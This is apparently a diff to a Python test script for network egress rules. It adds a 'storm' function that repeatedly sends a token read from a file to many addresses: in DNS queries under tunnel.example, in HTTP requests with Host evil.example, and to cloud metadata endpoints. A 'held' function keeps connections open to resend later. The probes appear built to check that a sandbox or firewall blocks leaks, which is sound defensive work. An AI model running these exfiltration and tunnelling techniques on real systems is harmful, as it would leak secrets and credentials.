@@ -338,6 +338,44 @@ def pipeline():
     s.sendall(b'GET /' + data + b' HTTP/1.1\r\nHost: evil.example\r\n\r\n'); finish(s)
 
 
+# --- over and over
+
+def storm():
+    """Everything that is quick, for PORT seconds (at least once). The token is read from the file TOKEN each time."""
+    resolver = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')][0]
+    until = time.time() + port
+    while True:
+        word = open(token).read().strip()
+        text = word.encode() + b'\r\n\r\n'
+        question = query(word + '.tunnel.example', 1)
+        for where, number, payload in [
+            ('198.18.0.66', 4500, text), ('2001:2::66', 4500, text), ('198.18.0.53', 53, question), ('198.18.0.66', 53, question),
+            (resolver, 53, question), ('172.30.99.1', 5000, text), ('172.30.99.66', 5000, text), ('224.0.0.251', 5353, text),
+        ]:
+            try: socket.socket(socket.AF_INET6 if ':' in where else socket.AF_INET, socket.SOCK_DGRAM).sendto(payload, (where, number))
+            except OSError: pass
+        for where, number in [
+            ('198.18.0.66', 8080), ('2001:2::66', 8080), ('198.18.0.66', 443), ('2001:2::66', 443), ('198.18.0.66', 80), ('2001:2::66', 80),
+            ('172.30.99.1', 80), ('172.30.99.66', 80), ('169.254.169.254', 80), ('fd00:ec2::254', 80),
+        ]:
+            try:
+                with socket.create_connection((where, number), 0.3) as s: s.sendall(b'GET /' + word.encode() + b' HTTP/1.1\r\nHost: evil.example\r\n\r\n')
+            except OSError: pass
+        if time.time() >= until: return
+        time.sleep(0.005)
+
+
+def held():
+    """A connection that is made now and used again when the file MORE is there."""
+    s = connect(); s.sendall(data + b'-first\r\n\r\n'); s.recv(2000)
+    d = socket.socket(family, socket.SOCK_DGRAM); d.connect((address, port)); d.send(data + b'-first')
+    while not os.path.exists(more): time.sleep(0.02)
+    for each in s, d:
+        for count in range(3):
+            try: each.sendall(data + b'-second\r\n\r\n'); time.sleep(0.1)
+            except OSError: pass
+
+
 # --- with CAP_NET_RAW: would the rules hold for packets that a tool cannot make?
 
 def checksum(words):
